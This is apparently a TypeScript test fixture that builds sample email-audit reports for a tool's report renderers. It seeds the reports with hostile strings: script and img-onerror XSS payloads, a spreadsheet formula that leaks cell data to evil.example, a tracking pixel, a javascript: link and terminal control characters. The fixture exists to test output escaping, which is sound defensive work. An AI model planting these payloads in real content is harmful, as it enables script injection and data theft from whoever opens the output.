/**
 * Audit reports built by hand for the report renderers' tests: every severity, a record to publish,
 * provider steps, a score, a transcript, and hostile server text in every field a server or DNS record
 * can reach.
 */
import type { AuditReport } from '../../preload/contract/audit';
import type { Finding } from '../../preload/contract/findings';

/** What a hostile DNS record or SMTP reply might say, aimed at whoever opens the report. */
export const HOSTILE_SCRIPT = '<script>alert("pwned")</script>';
export const HOSTILE_ATTRIBUTE = '"><img src=x onerror=alert(1)>';
export const HOSTILE_FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")';
export const HOSTILE_MARKDOWN =
  '# Heading\n- item ![track](https://evil.example/pixel.png) [x](javascript:alert(1)) | cell |';
/** ESC [2J clears a terminal; U+202E reverses the text that follows. */
export const HOSTILE_CONTROLS = 'before\u001b[2Jafter\u202eesrever';

export function finding(overrides: Partial<Finding> & Pick<Finding, 'id' | 'severity'>): Finding {
  return {
    checkId: `check:${overrides.id}`,
    title: `Title of ${overrides.id}`,
    evidence: { host: 'smtp.example.com' },
    explanation: `Explanation of ${overrides.id}.`,
    fix: { steps: overrides.severity === 'pass' ? [] : [`First step for ${overrides.id}`, 'Second step'] },
    references: [
      { label: 'RFC 5321 section 3.9', url: 'https://www.rfc-editor.org/rfc/rfc5321#section-3.9' },
    ],
    ...overrides,
  };
}

export function sampleReport(overrides: Partial<AuditReport> = {}): AuditReport {
  return {
    schemaVersion: 1,
    tool: { name: 'Mailwarden', version: '0.1.0' },
    target: {
      kind: 'account',
      label: 'ann@example.com',
      domain: 'example.com',
      host: 'smtp.example.com',
      port: 587,
      security: 'starttls',
    },
    startedAt: '2026-11-27T10:00:00.000Z',
    finishedAt: '2026-11-27T10:00:01.400Z',
    cancelled: false,
    findings: [
      finding({
        id: 'relay.open',
        severity: 'critical',
        title: 'smtp.example.com is an open relay',
        evidence: {
          host: 'smtp.example.com',
          port: 587,
          tls: true,
          mailReply: { code: 250, text: '2.1.0 Ok' },
          capabilities: ['PIPELINING', 'AUTH PLAIN'],
          nothing: null,
        },
        fix: {
          steps: ['Allow relaying only for logged-in users.'],
          providerSteps: { postfix: ['Set smtpd_relay_restrictions.'] },
        },
      }),
      finding({
        id: 'dmarc.record.missing',
        severity: 'high',
        fix: {
          steps: ['Publish a DMARC record.'],
          record: {
            type: 'TXT',
            name: '_dmarc.example.com',
            value: 'v=DMARC1; p=none; rua=mailto:d@example.com',
          },
        },
      }),
      finding({
        id: 'spf.record.hostile',
        severity: 'medium',
        title: `SPF says ${HOSTILE_SCRIPT}`,
        explanation: `The record reads ${HOSTILE_ATTRIBUTE} and ${HOSTILE_MARKDOWN}`,
        evidence: {
          record: HOSTILE_SCRIPT,
          banner: HOSTILE_ATTRIBUTE,
          formula: HOSTILE_FORMULA,
          controls: HOSTILE_CONTROLS,
          [HOSTILE_SCRIPT]: 'key from a server',
        },
        fix: {
          steps: [HOSTILE_FORMULA, 'Second'],
          record: { type: 'TXT', name: 'x', value: '```\n# not a heading' },
        },
        references: [
          { label: 'Hostile link', url: 'javascript:alert(1)' },
          { label: HOSTILE_ATTRIBUTE, url: 'https://example.com/ok' },
        ],
      }),
      finding({ id: 'tls-rpt.record.missing', severity: 'low' }),
      finding({ id: 'smtp.ext.size.absent', severity: 'info' }),
      finding({ id: 'tls.protocol.modern', severity: 'pass', title: 'Only TLS 1.2 and 1.3 are accepted' }),
      finding({ id: 'spf.record.found', severity: 'pass', title: 'The domain has an SPF record' }),
    ],
    transcript: [
      {
        at: '2026-11-27T10:00:00.100Z',
        elapsedMs: 100,
        direction: 'server',
        connection: 'smtp.example.com:587',
        text: `220 ${HOSTILE_SCRIPT} ESMTP`,
      },
      {
        at: '2026-11-27T10:00:00.200Z',
        elapsedMs: 200,
        direction: 'client',
        connection: 'smtp.example.com:587',
        text: 'AUTH PLAIN <redacted>',
      },
    ],
    score: {
      overall: { score: 61.4, grade: 'C' },
      areas: [
        {
          area: 'abuse-protection',
          label: 'Abuse protection',
          score: 20,
          grade: 'F',
          counts: { pass: 0, info: 0, low: 0, medium: 0, high: 0, critical: 1 },
        },
        {
          area: 'deliverability',
          label: 'Deliverability rules',
          score: null,
          grade: null,
          counts: { pass: 0, info: 0, low: 0, medium: 0, high: 0, critical: 0 },
        },
      ],
    },
    ...overrides,
  };
}
